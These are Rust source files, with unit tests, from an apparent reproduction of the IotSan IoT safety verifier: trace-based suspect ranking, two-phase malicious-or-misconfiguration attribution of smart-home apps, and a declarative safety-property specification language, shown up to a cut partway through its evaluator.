use iotsan_checker::{FoundViolation, LogLine, Trace};

/// How strongly one app of a verified group is implicated by a
/// counterexample trace.
#[derive(Debug, Clone, PartialEq)]
pub struct SuspectScore {
    /// The app's display name.
    pub app: String,
    /// Number of trace log lines produced by this app's handlers.
    pub mentions: usize,
    /// True when the app acted in the final step of the counterexample — the
    /// step that drove the system into the unsafe state.
    pub in_final_step: bool,
    /// Position-weighted evidence: the sum of `(line + 1) / total log lines`
    /// over the app's log lines.  Activity closer to the unsafe state weighs
    /// more; `0.0` means the app never acted on the counterexample path.
    pub score: f64,
}

/// The ranked suspects for one violated property.
#[derive(Debug, Clone, PartialEq)]
pub struct TraceAttribution {
    /// The violated property's identifier.
    pub property: u32,
    /// The violated property's description (the failed assertion text).
    pub description: String,
    /// The group's apps ranked by [`SuspectScore::score`] (descending, ties
    /// broken by app name so the ranking is deterministic).
    pub suspects: Vec<SuspectScore>,
}

impl TraceAttribution {
    /// The prime suspect: the highest-ranked app that actually acted on the
    /// counterexample path, if any did.
    pub fn prime_suspect(&self) -> Option<&SuspectScore> {
        self.suspects.first().filter(|s| s.mentions > 0)
    }
}

/// True when `line` was produced by one of `app`'s handlers — read directly
/// from the line's structured provenance.
fn owned_by(line: &LogLine, app: &str) -> bool {
    line.owner.as_deref() == Some(app)
}

/// Ranks the apps of a verified group by the evidence a single
/// counterexample trace holds against them.
///
/// Every app of `group_apps` appears exactly once in the result, sorted by
/// descending [`SuspectScore::score`] with ties broken by name.
pub fn rank_suspects(group_apps: &[String], trace: &Trace) -> Vec<SuspectScore> {
    let steps = trace.steps.len();
    let total_lines: usize = trace.steps.iter().map(|s| s.log.len()).sum();
    let mut scores: Vec<SuspectScore> = group_apps
        .iter()
        .map(|app| {
            let mut mentions = 0usize;
            let mut score = 0.0f64;
            let mut in_final_step = false;
            let mut line_index = 0usize;
            for (i, step) in trace.steps.iter().enumerate() {
                for line in &step.log {
                    line_index += 1;
                    if owned_by(line, app) {
                        mentions += 1;
                        score += line_index as f64 / total_lines as f64;
                        if i + 1 == steps {
                            in_final_step = true;
                        }
                    }
                }
            }
            SuspectScore { app: app.clone(), mentions, in_final_step, score }
        })
        .collect();
    scores.sort_by(|a, b| b.score.total_cmp(&a.score).then_with(|| a.app.cmp(&b.app)));
    scores
}

/// Attributes every violation of a verified group from its counterexample
/// trace: the trace-driven counterpart of [`crate::attribute_all`], consuming
/// [`FoundViolation`]s from the checker instead of opaque configuration
/// lists.  Returns one [`TraceAttribution`] per violation, in input order.
pub fn attribute_traces(
    group_apps: &[String],
    violations: &[FoundViolation],
) -> Vec<TraceAttribution> {
    violations
        .iter()
        .map(|found| TraceAttribution {
            property: found.violation.property,
            description: found.violation.description.clone(),
            suspects: rank_suspects(group_apps, &found.trace),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_checker::Violation;

    fn group() -> Vec<String> {
        vec!["Auto Mode Change".into(), "Unlock Door".into(), "Brighten My Path".into()]
    }

    fn unlock_trace() -> Trace {
        let mut t = Trace::new();
        t.push(
            "alicePresence/presence=not present [ok]".into(),
            vec![
                LogLine::owned(
                    "Auto Mode Change",
                    "Auto Mode Change.presenceHandler: handling presence=not present",
                ),
                LogLine::new("location.mode = Away"),
            ],
        );
        t.push(
            "location/mode=Away".into(),
            vec![
                LogLine::owned(
                    "Unlock Door",
                    "Unlock Door.changedLocationMode: handling mode=Away",
                ),
                LogLine::new("mainDoorLock.unlock()"),
                LogLine::new("mainDoorLock.lock = unlocked"),
            ],
        );
        t
    }

    #[test]
    fn final_step_app_ranks_first() {
        let suspects = rank_suspects(&group(), &unlock_trace());
        assert_eq!(suspects.len(), 3);
        assert_eq!(suspects[0].app, "Unlock Door");
        assert!(suspects[0].in_final_step);
        assert_eq!(suspects[0].mentions, 1);
        assert_eq!(suspects[1].app, "Auto Mode Change");
        assert!(!suspects[1].in_final_step);
        // The app that never acted is listed last with a zero score.
        assert_eq!(suspects[2].app, "Brighten My Path");
        assert_eq!(suspects[2].mentions, 0);
        assert_eq!(suspects[2].score, 0.0);
    }

    #[test]
    fn ownership_is_structural_not_textual() {
        // A line whose *text* looks like app activity but carries no owner is
        // never attributed; conversely, the owner field alone decides even if
        // the text never mentions the app.
        let mut t = Trace::new();
        t.push(
            "e".into(),
            vec![
                LogLine::new("Unlock Door.handler: handling x=1"),
                LogLine::owned("Unlock Door", "doorLock.unlock()"),
            ],
        );
        let suspects = rank_suspects(&["Unlock Door".into()], &t);
        assert_eq!(suspects[0].mentions, 1);
        // An app name that merely prefixes another owner never matches.
        let suspects = rank_suspects(&["Unlock".into()], &t);
        assert_eq!(suspects[0].mentions, 0);
    }

    #[test]
    fn attribute_traces_maps_violations_in_order() {
        let violations = vec![
            FoundViolation {
                violation: Violation { property: 6, description: "main door unlocked".into() },
                trace: unlock_trace(),
                depth: 2,
            },
            FoundViolation {
                violation: Violation { property: 9, description: "other".into() },
                trace: Trace::new(),
                depth: 0,
            },
        ];
        let attributions = attribute_traces(&group(), &violations);
        assert_eq!(attributions.len(), 2);
        assert_eq!(attributions[0].property, 6);
        assert_eq!(attributions[0].prime_suspect().unwrap().app, "Unlock Door");
        // An empty trace implicates no one.
        assert_eq!(attributions[1].prime_suspect(), None);
        assert!(attributions[1].suspects.iter().all(|s| s.score == 0.0));
    }

    #[test]
    fn ranking_is_deterministic_under_ties() {
        // Neither app acts: equal zero scores, alphabetical order breaks the
        // tie so repeated runs render identically.
        let suspects = rank_suspects(&["B App".into(), "A App".into()], &unlock_trace());
        assert_eq!(suspects[0].app, "A App");
        assert_eq!(suspects[1].app, "B App");

        // Within one step, the later log line weighs more: the handler whose
        // activity is closest to the unsafe state ranks first.
        let mut t = Trace::new();
        t.push(
            "e".into(),
            vec![
                LogLine::owned("B App", "B App.h: handling x=1"),
                LogLine::owned("A App", "A App.h: handling x=1"),
            ],
        );
        let suspects = rank_suspects(&["A App".into(), "B App".into()], &t);
        assert_eq!(suspects[0].app, "A App");
        assert!(suspects[0].score > suspects[1].score);
        assert!(suspects[0].in_final_step && suspects[1].in_final_step);
    }
}
