//! # iotsan-attribution
//!
//! The Output Analyzer of IotSan-rs (the Rust reproduction of *IotSan:
//! Fortifying the Safety of IoT Systems*, CoNEXT 2018, §9).
//!
//! The Output Analyzer attributes a detected violation to either a
//! misconfiguration or a (potentially) malicious app using a two-phase,
//! heuristic algorithm:
//!
//! 1. **Phase 1** — when a new app is installed, every possible configuration
//!    of that app is verified *independently*.  If the proportion of violating
//!    configurations (the *violation ratio*) exceeds a threshold (the paper
//!    uses 90 %), the app is attributed as potentially **malicious**.
//! 2. **Phase 2** — otherwise the app is verified *in conjunction with* the
//!    previously installed apps, again across all configurations.  A violation
//!    ratio above the threshold attributes the app as a **bad app**; a lower
//!    but non-zero ratio is attributed to **misconfiguration** and safe
//!    configurations are suggested to the user; zero violations is a clean
//!    report.
//!
//! The module is deliberately generic over the configuration type and the
//! verification oracle so it can be unit-tested without the model checker and
//! reused by the pipeline in `iotsan-core`.
//!
//! Besides the configuration-enumeration oracle, the crate also attributes
//! violations **from counterexample traces**: [`trace::attribute_traces`]
//! consumes the checker's [`iotsan_checker::FoundViolation`]s directly and
//! ranks the apps of a verified group per violation (used by the fleet
//! planner in `iotsan-core`).
//!
//! ```
//! use iotsan_attribution::{attribute_app, AttributionThresholds, Verdict};
//!
//! // A toy oracle: configurations are integers, and every configuration of
//! // the "malicious" app violates a property.
//! let standalone: Vec<u32> = (0..10).collect();
//! let joint: Vec<u32> = (0..10).collect();
//! let report = attribute_app(
//!     "Fake Alarm",
//!     &standalone,
//!     |_| true,
//!     &joint,
//!     |_| true,
//!     &AttributionThresholds::default(),
//! );
//! assert!(matches!(report.verdict, Verdict::Malicious { .. }));
//! ```

#![deny(missing_docs)]

pub mod trace;

pub use trace::{attribute_traces, rank_suspects, SuspectScore, TraceAttribution};

use std::fmt;

/// Thresholds for the two attribution phases.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct AttributionThresholds {
    /// Phase-1 violation ratio at or above which an app is flagged malicious
    /// (the paper suggests 90 %).
    pub malicious_ratio: f64,
    /// Phase-2 violation ratio at or above which an app is flagged as a bad
    /// app.
    pub bad_app_ratio: f64,
}

impl Default for AttributionThresholds {
    fn default() -> Self {
        AttributionThresholds { malicious_ratio: 0.9, bad_app_ratio: 0.9 }
    }
}

/// The outcome of attribution for one app.
#[derive(Debug, Clone, PartialEq)]
pub enum Verdict {
    /// Flagged in phase 1: the app violates properties in (nearly) every
    /// configuration on its own.
    Malicious {
        /// Phase-1 violation ratio.
        violation_ratio: f64,
    },
    /// Flagged in phase 2: the app violates properties in (nearly) every
    /// configuration when running alongside the already-installed apps.
    BadApp {
        /// Phase-2 violation ratio.
        violation_ratio: f64,
    },
    /// Some configurations violate properties but safe configurations exist;
    /// the violation is attributed to misconfiguration.
    Misconfiguration {
        /// Phase-2 violation ratio.
        violation_ratio: f64,
        /// Indices (into the joint configuration list) of configurations that
        /// did not violate any property — the suggestions offered to the user.
        safe_configurations: Vec<usize>,
    },
    /// No configuration violates any property.
    Clean,
}

impl Verdict {
    /// True when the verdict flags the app itself (malicious or bad).
    pub fn flags_app(&self) -> bool {
        matches!(self, Verdict::Malicious { .. } | Verdict::BadApp { .. })
    }

    /// Short label for tables and logs.
    pub fn label(&self) -> &'static str {
        match self {
            Verdict::Malicious { .. } => "malicious",
            Verdict::BadApp { .. } => "bad app",
            Verdict::Misconfiguration { .. } => "misconfiguration",
            Verdict::Clean => "clean",
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Malicious { violation_ratio } => {
                write!(f, "malicious (violation ratio {:.0}%)", violation_ratio * 100.0)
            }
            Verdict::BadApp { violation_ratio } => {
                write!(f, "bad app (violation ratio {:.0}%)", violation_ratio * 100.0)
            }
            Verdict::Misconfiguration { violation_ratio, safe_configurations } => write!(
                f,
                "misconfiguration (violation ratio {:.0}%, {} safe configuration(s) available)",
                violation_ratio * 100.0,
                safe_configurations.len()
            ),
            Verdict::Clean => write!(f, "clean"),
        }
    }
}

/// The full attribution report for one app.
#[derive(Debug, Clone, PartialEq)]
pub struct AttributionReport {
    /// The analysed app.
    pub app: String,
    /// The verdict.
    pub verdict: Verdict,
    /// Phase-1 (standalone) violation ratio.
    pub standalone_ratio: f64,
    /// Phase-2 (joint) violation ratio, when phase 2 ran.
    pub joint_ratio: Option<f64>,
    /// Number of configurations verified in phase 1.
    pub standalone_configs: usize,
    /// Number of configurations verified in phase 2.
    pub joint_configs: usize,
}

/// Computes the violation ratio of `verify` over `configs`, together with the
/// indices of the configurations that did *not* violate anything.
pub fn violation_ratio<C>(configs: &[C], mut verify: impl FnMut(&C) -> bool) -> (f64, Vec<usize>) {
    if configs.is_empty() {
        return (0.0, Vec::new());
    }
    let mut violations = 0usize;
    let mut safe = Vec::new();
    for (i, config) in configs.iter().enumerate() {
        if verify(config) {
            violations += 1;
        } else {
            safe.push(i);
        }
    }
    (violations as f64 / configs.len() as f64, safe)
}

/// Runs the two-phase attribution algorithm of §9.
///
/// * `standalone_configs` / `verify_standalone` — phase 1: the app alone,
///   every enumerated configuration; the oracle returns `true` when the
///   configuration leads to a violation.
/// * `joint_configs` / `verify_joint` — phase 2: the app together with the
///   user's previously installed apps.
pub fn attribute_app<C, D>(
    app: &str,
    standalone_configs: &[C],
    verify_standalone: impl FnMut(&C) -> bool,
    joint_configs: &[D],
    verify_joint: impl FnMut(&D) -> bool,
    thresholds: &AttributionThresholds,
) -> AttributionReport {
    let (standalone_ratio, _) = violation_ratio(standalone_configs, verify_standalone);
    if !standalone_configs.is_empty() && standalone_ratio >= thresholds.malicious_ratio {
        return AttributionReport {
            app: app.to_string(),
            verdict: Verdict::Malicious { violation_ratio: standalone_ratio },
            standalone_ratio,
            joint_ratio: None,
            standalone_configs: standalone_configs.len(),
            joint_configs: 0,
        };
    }

    let (joint_ratio, safe_configurations) = violation_ratio(joint_configs, verify_joint);
    let verdict = if joint_configs.is_empty() {
        if standalone_ratio > 0.0 {
            Verdict::Misconfiguration {
                violation_ratio: standalone_ratio,
                safe_configurations: Vec::new(),
            }
        } else {
            Verdict::Clean
        }
    } else if joint_ratio >= thresholds.bad_app_ratio {
        Verdict::BadApp { violation_ratio: joint_ratio }
    } else if joint_ratio > 0.0 {
        Verdict::Misconfiguration { violation_ratio: joint_ratio, safe_configurations }
    } else {
        Verdict::Clean
    };

    AttributionReport {
        app: app.to_string(),
        verdict,
        standalone_ratio,
        joint_ratio: Some(joint_ratio),
        standalone_configs: standalone_configs.len(),
        joint_configs: joint_configs.len(),
    }
}

/// Convenience for batch attribution: attributes every `(app, standalone,
/// joint)` triple with a shared oracle and returns the reports in order.
pub fn attribute_all<C: Clone, D: Clone>(
    apps: &[(String, Vec<C>, Vec<D>)],
    mut verify_standalone: impl FnMut(&str, &C) -> bool,
    mut verify_joint: impl FnMut(&str, &D) -> bool,
    thresholds: &AttributionThresholds,
) -> Vec<AttributionReport> {
    apps.iter()
        .map(|(app, standalone, joint)| {
            attribute_app(
                app,
                standalone,
                |c| verify_standalone(app, c),
                joint,
                |c| verify_joint(app, c),
                thresholds,
            )
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ratio_counts_and_safe_indices() {
        let configs = vec![1, 2, 3, 4, 5];
        let (ratio, safe) = violation_ratio(&configs, |c| *c % 2 == 0);
        assert!((ratio - 0.4).abs() < 1e-9);
        assert_eq!(safe, vec![0, 2, 4]);
        let (ratio, safe) = violation_ratio::<u32>(&[], |_| true);
        assert_eq!(ratio, 0.0);
        assert!(safe.is_empty());
    }

    #[test]
    fn malicious_app_is_caught_in_phase_one() {
        let report = attribute_app(
            "Fake CO Alarm",
            &(0..20).collect::<Vec<_>>(),
            |_| true,
            &Vec::<u32>::new(),
            |_| false,
            &AttributionThresholds::default(),
        );
        assert!(
            matches!(report.verdict, Verdict::Malicious { violation_ratio } if violation_ratio == 1.0)
        );
        assert!(report.verdict.flags_app());
        assert_eq!(report.joint_ratio, None);
        assert_eq!(report.standalone_configs, 20);
    }

    #[test]
    fn bad_app_is_caught_in_phase_two() {
        // Standalone the app looks fine (20% violations), but combined with
        // the installed apps every configuration violates.
        let report = attribute_app(
            "Unlock Door",
            &(0..10).collect::<Vec<_>>(),
            |c| *c < 2,
            &(0..10).collect::<Vec<_>>(),
            |_| true,
            &AttributionThresholds::default(),
        );
        assert!(
            matches!(report.verdict, Verdict::BadApp { violation_ratio } if violation_ratio == 1.0)
        );
        assert_eq!(report.standalone_ratio, 0.2);
    }

    #[test]
    fn misconfiguration_suggests_safe_configs() {
        let report = attribute_app(
            "Virtual Thermostat",
            &(0..10).collect::<Vec<_>>(),
            |_| false,
            &(0..10).collect::<Vec<_>>(),
            |c| *c >= 7, // 30% of configurations violate
            &AttributionThresholds::default(),
        );
        let Verdict::Misconfiguration { violation_ratio, safe_configurations } = &report.verdict
        else {
            panic!("expected misconfiguration, got {:?}", report.verdict);
        };
        assert!((violation_ratio - 0.3).abs() < 1e-9);
        assert_eq!(safe_configurations.len(), 7);
        assert!(!report.verdict.flags_app());
    }

    #[test]
    fn clean_app_reports_clean() {
        let report = attribute_app(
            "Good Night",
            &(0..5).collect::<Vec<_>>(),
            |_| false,
            &(0..5).collect::<Vec<_>>(),
            |_| false,
            &AttributionThresholds::default(),
        );
        assert_eq!(report.verdict, Verdict::Clean);
        assert_eq!(report.verdict.label(), "clean");
    }

    #[test]
    fn threshold_is_respected() {
        // 85% standalone violations with a 90% threshold is NOT malicious...
        let thresholds = AttributionThresholds::default();
        let standalone: Vec<u32> = (0..20).collect();
        let report = attribute_app(
            "Borderline",
            &standalone,
            |c| *c < 17,
            &standalone.clone(),
            |_| false,
            &thresholds,
        );
        assert!(!matches!(report.verdict, Verdict::Malicious { .. }));
        // ...but with a 80% threshold it is.
        let relaxed = AttributionThresholds { malicious_ratio: 0.8, bad_app_ratio: 0.9 };
        let report = attribute_app(
            "Borderline",
            &standalone,
            |c| *c < 17,
            &standalone.clone(),
            |_| false,
            &relaxed,
        );
        assert!(matches!(report.verdict, Verdict::Malicious { .. }));
    }

    #[test]
    fn batch_attribution_keeps_order() {
        let apps = vec![
            ("Evil".to_string(), vec![0u32, 1, 2], vec![0u32]),
            ("Fine".to_string(), vec![0u32, 1, 2], vec![0u32]),
        ];
        let reports = attribute_all(
            &apps,
            |app, _| app == "Evil",
            |_, _| false,
            &AttributionThresholds::default(),
        );
        assert_eq!(reports.len(), 2);
        assert!(reports[0].verdict.flags_app());
        assert_eq!(reports[1].verdict, Verdict::Clean);
    }

    #[test]
    fn display_formats() {
        let v = Verdict::Malicious { violation_ratio: 1.0 };
        assert_eq!(v.to_string(), "malicious (violation ratio 100%)");
        let v = Verdict::Misconfiguration { violation_ratio: 0.5, safe_configurations: vec![1, 2] };
        assert!(v.to_string().contains("2 safe configuration"));
    }
}
