//! # iotsan-properties
//!
//! The safety-property corpus of IotSan-rs (the Rust reproduction of *IotSan:
//! Fortifying the Safety of IoT Systems*, CoNEXT 2018, §8 and Table 4).
//!
//! IotSan verifies 45 properties: one free-of-conflicting-commands property,
//! one free-of-repeated-commands property, 38 safe-physical-state invariants
//! across six categories, four security properties (information leakage and
//! security-sensitive commands) and one robustness-to-failure property.
//!
//! * [`snapshot`] — the [`Snapshot`] of the physical state and the per-step
//!   [`StepObservation`] the model generator hands to the checker;
//! * [`invariant`] — the 38 parameterized [`PhysicalInvariant`]s;
//! * [`catalog`] — the full [`PropertySet`] with LTL renderings and the
//!   conflicting/repeated-command detectors.
//!
//! ```
//! use iotsan_properties::{PropertySet, Snapshot};
//!
//! let set = PropertySet::all();
//! assert_eq!(set.len(), 45);
//! // An empty home violates nothing.
//! assert!(set.check_snapshot(&Snapshot::default()).is_empty());
//! ```

#![warn(missing_docs)]

pub mod catalog;
pub mod invariant;
pub mod snapshot;

pub use catalog::{
    default_properties, has_conflicting_commands, has_repeated_commands, Property, PropertyClass,
    PropertyId, PropertyKind, PropertySet,
};
pub use invariant::{PhysicalInvariant, SnapshotFacts};
pub use snapshot::{
    CommandRecord, DeviceRole, DeviceSnapshot, FakeEventRecord, MessageChannel, MessageRecord,
    NetworkRecord, Snapshot, StepObservation,
};
