//! # iotsan-properties
//!
//! The open safety-property subsystem of IotSan-rs (the Rust reproduction of
//! *IotSan: Fortifying the Safety of IoT Systems*, CoNEXT 2018, §8 and
//! Table 4).
//!
//! IotSan treats properties as user-supplied inputs; this crate provides the
//! declarative specification language they are written in and the compiler
//! that turns them into the checker's zero-allocation evaluators:
//!
//! * [`spec`] — the [`PropertySpec`] language: boolean formulas ([`Expr`])
//!   over device/mode/step predicates ([`Atom`]) under temporal modalities
//!   ([`Modality`]: always / never / leads-to-within-k), serde-loadable from
//!   JSON and buildable with [`PropertySpec::builder`];
//! * [`builtins`] — the paper's 45-property corpus (1 conflicting-commands,
//!   1 repeated-commands, 38 physical-state invariants, 4 security,
//!   1 robustness), expressed as plain specs;
//! * [`registry`] — the [`PropertySet`] of specs selected for one run, with
//!   content hashing for the verification cache;
//! * [`compile`] — install-time compilation into slot-indexed
//!   [`CompiledPropertySet`] programs (deduplicated atoms fill a slot
//!   vector once per transition, per-property programs run pure boolean
//!   ops; leads-to obligations live in checker-state monitor counters);
//! * [`snapshot`] — the physical [`Snapshot`] and per-step
//!   [`StepObservation`] the evaluators read.
//!
//! ```
//! use iotsan_properties::{PropertySet, Snapshot};
//!
//! let set = PropertySet::all();
//! assert_eq!(set.len(), 45);
//! // An empty home violates nothing.
//! assert!(set.check_snapshot(&Snapshot::default()).is_empty());
//! ```
//!
//! Defining a custom property takes a handful of lines:
//!
//! ```
//! use iotsan_properties::{DeviceSelect, Expr, PropertySet, PropertySpec};
//!
//! let spec = PropertySpec::builder(46, "No unlock command while sleeping")
//!     .category("Custom")
//!     .never(Expr::and([
//!         Expr::mode_is("Night"),
//!         Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
//!     ]));
//! let set = PropertySet::all().with(spec);
//! assert_eq!(set.len(), 46);
//! ```

#![warn(missing_docs)]

pub mod builtins;
pub mod compile;
pub mod registry;
pub mod snapshot;
pub mod spec;

pub use builtins::{default_properties, paper_properties};
pub use compile::{
    CompileTarget, CompiledProperty, CompiledPropertySet, EvalScratch, TargetDevice,
};
pub use registry::{DuplicatePropertyId, PropertySet};
pub use snapshot::{
    has_conflicting_commands, has_repeated_commands, CommandRecord, DeviceRole, DeviceSnapshot,
    FakeEventRecord, MessageChannel, MessageRecord, NetworkRecord, Snapshot, StepObservation,
};
pub use spec::{
    Atom, AttrTest, CommandTest, DeviceSelect, Expr, LeadsTo, Modality, NumericTest, PropertyClass,
    PropertyId, PropertySpec, PropertySpecBuilder,
};

/// Pre-redesign name for [`PropertySpec`]: the catalog's `Property` records
/// are now the specs themselves.
pub type Property = PropertySpec;
