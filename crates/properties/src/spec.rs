//! The declarative property-specification language.
//!
//! IotSan treats safety properties as *user-supplied inputs* (§8: plain
//! English sentences are translated into verifiable properties), so the
//! property subsystem must be open: a [`PropertySpec`] is a plain value —
//! serde-loadable from JSON, or built in Rust with [`PropertySpec::builder`]
//! — expressing a predicate over device attributes, the location mode and
//! per-step observations (commands, messages, network calls), under one of
//! three temporal modalities:
//!
//! * [`Modality::Never`] — the unsafe condition must never hold (`[] !p`);
//! * [`Modality::Always`] — the safe condition must always hold (`[] p`);
//! * [`Modality::LeadsTo`] — whenever a trigger holds, a response must hold
//!   within `within` further evaluation steps (`[] (t -> <> r)`).
//!
//! Specs are *interpreted* here (the reference semantics, used by
//! [`crate::PropertySet::check_point`] and as the oracle in the equivalence
//! proptests) and *compiled* by [`crate::compile::CompiledPropertySet`] into
//! slot-indexed programs for the checker's zero-allocation hot path.
//!
//! ```
//! use iotsan_properties::{Expr, PropertyClass, PropertySpec};
//!
//! let spec = PropertySpec::builder(46, "Sprinklers stay off at night")
//!     .category("Custom")
//!     .class(PropertyClass::Custom("Irrigation".into()))
//!     .never(Expr::and([
//!         Expr::mode_is("Night"),
//!         Expr::capability_attr("sprinkler", "sprinkler", "on"),
//!     ]));
//! let json = spec.to_json();
//! assert_eq!(PropertySpec::from_json(&json).unwrap(), spec);
//! ```

use crate::snapshot::{
    has_conflicting_commands, has_repeated_commands, DeviceRole, DeviceSnapshot, Snapshot,
    StepObservation,
};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Stable identifier of a property within a [`crate::PropertySet`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct PropertyId(pub u32);

impl fmt::Display for PropertyId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "P{:02}", self.0)
    }
}

/// The property classes of §8, plus user-defined classes.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum PropertyClass {
    /// When a single external event happens, an actuator should not receive
    /// two conflicting commands.
    ConflictingCommands,
    /// When a single event happens, an actuator should not receive multiple
    /// repeated commands of the same type.
    RepeatedCommands,
    /// A safe-physical-state invariant (Table 4).
    PhysicalState,
    /// Security: information leakage and security-sensitive commands.
    Security,
    /// Robustness to device/communication failure.
    Robustness,
    /// A user-defined class; the payload is the label rendered in evaluation
    /// tables.
    Custom(String),
}

impl PropertyClass {
    /// Human-readable label used in evaluation tables (the row structure of
    /// Tables 5/6).
    pub fn label(&self) -> &str {
        match self {
            PropertyClass::ConflictingCommands => "Conflicting commands",
            PropertyClass::RepeatedCommands => "Repeated commands",
            PropertyClass::PhysicalState => "Unsafe physical states",
            PropertyClass::Security => "Security",
            PropertyClass::Robustness => "Robustness",
            PropertyClass::Custom(label) => label,
        }
    }
}

fn default_class() -> PropertyClass {
    PropertyClass::Custom("Custom".to_string())
}

/// Selects the devices an atom ranges over.  All present fields must match
/// (conjunctive); an empty selector matches every installed device.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct DeviceSelect {
    /// Match the device capability (e.g. `lock`, `smokeDetector`).
    #[serde(default)]
    pub capability: Option<String>,
    /// Match the user-assigned device role, parsed with
    /// [`DeviceRole::parse`] (e.g. `heater`, `main door lock`).
    #[serde(default)]
    pub role: Option<String>,
    /// Match the exact device label (e.g. `frontDoorLock`).
    #[serde(default)]
    pub label: Option<String>,
}

impl DeviceSelect {
    /// Matches every installed device.
    pub fn any() -> Self {
        DeviceSelect::default()
    }

    /// Matches devices with the given capability.
    pub fn capability(capability: impl Into<String>) -> Self {
        DeviceSelect { capability: Some(capability.into()), ..Default::default() }
    }

    /// Matches devices with the given user-assigned role.
    pub fn role(role: impl Into<String>) -> Self {
        DeviceSelect { role: Some(role.into()), ..Default::default() }
    }

    /// Matches the device with the given label.
    pub fn label(label: impl Into<String>) -> Self {
        DeviceSelect { label: Some(label.into()), ..Default::default() }
    }

    /// True when no field restricts the selection.
    pub fn is_any(&self) -> bool {
        self.capability.is_none() && self.role.is_none() && self.label.is_none()
    }

    /// True when a device with the given identity matches this selector.
    pub fn matches(&self, label: &str, capability: &str, role: DeviceRole) -> bool {
        if let Some(want) = &self.capability {
            if want != capability {
                return false;
            }
        }
        if let Some(want) = &self.role {
            if DeviceRole::parse(want) != role {
                return false;
            }
        }
        if let Some(want) = &self.label {
            if want != label {
                return false;
            }
        }
        true
    }

    /// [`DeviceSelect::matches`] against a snapshot device.
    pub fn matches_snapshot(&self, device: &DeviceSnapshot) -> bool {
        self.matches(&device.label, &device.capability, device.role)
    }

    /// A short rendering used when deriving LTL propositions.
    fn describe(&self) -> String {
        if let Some(label) = &self.label {
            label.clone()
        } else if let Some(capability) = &self.capability {
            capability.clone()
        } else if let Some(role) = &self.role {
            role.clone()
        } else {
            "any".to_string()
        }
    }
}

/// An equality test over a device attribute, quantified by the enclosing
/// [`Atom`] (`AnyAttr` / `AllAttr`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttrTest {
    /// Which devices to test.
    #[serde(default)]
    pub select: DeviceSelect,
    /// Attribute name (e.g. `switch`, `lock`).
    pub attribute: String,
    /// Expected value, compared with the interpreter's loose equality
    /// (`"75"` equals `75`).
    pub value: String,
}

/// A numeric threshold test over a device attribute.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NumericTest {
    /// Which devices to read.
    #[serde(default)]
    pub select: DeviceSelect,
    /// Attribute name (e.g. `temperature`, `moisture`).
    pub attribute: String,
    /// The threshold compared against each reading.
    pub threshold: f64,
}

/// A test over the actuator commands issued during a step.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CommandTest {
    /// Which target devices count (resolved against the installed system at
    /// compile time; the interpreter resolves through the snapshot).
    #[serde(default)]
    pub select: DeviceSelect,
    /// The command name (`on`, `unlock`, ...).
    pub command: String,
}

/// The atomic predicates of the specification language.
///
/// *State* atoms read the physical [`Snapshot`]; *step* atoms read the
/// [`StepObservation`] of one external-event step.  [`Atom::reads_state`]
/// distinguishes them — properties containing state atoms are evaluated at
/// quiescent points only (matching the strict-concurrency design's checking
/// discipline).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Atom {
    // ---- state atoms ------------------------------------------------------
    /// The location mode equals the given name (case-insensitive).
    ModeIs(String),
    /// Someone is at home: any presence sensor reports `present`, or — when
    /// the system has no presence sensor — the location mode is not `Away`
    /// (the paper's proxy).
    AnyoneHome,
    /// Some selected device has `attribute == value`.
    AnyAttr(AttrTest),
    /// Every selected device has `attribute == value` (vacuously true when
    /// none match).
    AllAttr(AttrTest),
    /// At least one device matches the selector.  This is a constant of the
    /// installation, folded at compile time.
    HasDevice(DeviceSelect),
    /// Some selected device is offline.
    AnyOffline(DeviceSelect),
    /// Some selected device reads `attribute` below the threshold
    /// (equivalently: the minimum reading is below it; false without
    /// readings).
    AnyBelow(NumericTest),
    /// Some selected device reads `attribute` above the threshold.
    AnyAbove(NumericTest),

    // ---- step atoms -------------------------------------------------------
    /// One actuator received two conflicting commands during the step.
    ConflictingCommands,
    /// One actuator received the same command twice during the step.
    RepeatedCommands,
    /// A network request not allowed by the user was made.
    DisallowedNetwork,
    /// An SMS was sent to a recipient that is not a configured phone number.
    SmsRecipientMismatch,
    /// An app called the security-sensitive `unsubscribe`.
    UnsubscribeCalled,
    /// An app raised a fake (synthetic) device event.
    FakeEventRaised,
    /// A command was lost to a device/communication failure.
    CommandFailed,
    /// The user was notified (any SMS or push message was sent).
    UserNotified,
    /// A selected device received the given command.
    CommandIssued(CommandTest),
}

impl Atom {
    /// True when the atom reads the physical snapshot (as opposed to the
    /// per-step observation).
    pub fn reads_state(&self) -> bool {
        matches!(
            self,
            Atom::ModeIs(_)
                | Atom::AnyoneHome
                | Atom::AnyAttr(_)
                | Atom::AllAttr(_)
                | Atom::HasDevice(_)
                | Atom::AnyOffline(_)
                | Atom::AnyBelow(_)
                | Atom::AnyAbove(_)
        )
    }

    /// The reference (interpreted) semantics over one evaluation point.
    pub fn eval(&self, snapshot: &Snapshot, step: &StepObservation) -> bool {
        fn selected<'a>(
            snapshot: &'a Snapshot,
            select: &'a DeviceSelect,
        ) -> impl Iterator<Item = &'a DeviceSnapshot> {
            snapshot.devices.iter().filter(move |d| select.matches_snapshot(d))
        }
        match self {
            Atom::ModeIs(mode) => snapshot.mode.eq_ignore_ascii_case(mode),
            Atom::AnyoneHome => snapshot.anyone_home(),
            Atom::AnyAttr(t) => {
                selected(snapshot, &t.select).any(|d| d.attr_is(&t.attribute, &t.value))
            }
            Atom::AllAttr(t) => {
                selected(snapshot, &t.select).all(|d| d.attr_is(&t.attribute, &t.value))
            }
